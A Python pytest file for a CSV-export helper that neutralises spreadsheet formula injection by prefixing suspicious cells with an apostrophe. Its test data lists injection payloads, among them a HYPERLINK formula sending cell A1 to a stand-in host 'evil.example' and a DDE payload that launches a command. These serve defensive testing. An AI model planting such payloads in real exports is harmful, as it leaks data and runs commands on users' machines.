"""Tables for people: nothing in them is a formula."""

import csv
from io import StringIO

import pytest

from kanglu.csv_file import plain, written

FORMULAS = (
    "=1+1", "=HYPERLINK(\"http://evil.example/?\"&A1)", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\n=1",
    " =1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "\u00a0=1", "\ufeff=1", "=", "-cmd|' /C calc'!A0", "\x00=1",
)  # fmt: skip


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_text_that_begins_like_a_formula_is_told_apart(cell):
    assert plain(cell) == f"'{cell}"


@pytest.mark.parametrize(
    "cell", ["张三", "-1.5", "+86", "-3", "7.75轻度乳糜", "", "a=b", "1-2", "…", "'=1", 5, -1.5, None]
)
def test_what_is_no_formula_stays_as_it_is(cell):
    assert plain(cell) == cell


@pytest.mark.parametrize("cell", FORMULAS)
def test_what_is_written_reads_back_with_nothing_added_but_the_apostrophe(cell):
    [head, row] = csv.reader(StringIO(written([["name", "value"], [cell, -2]]), newline=""))
    assert head == ["name", "value"]
    assert row == [f"'{cell}", "-2"]
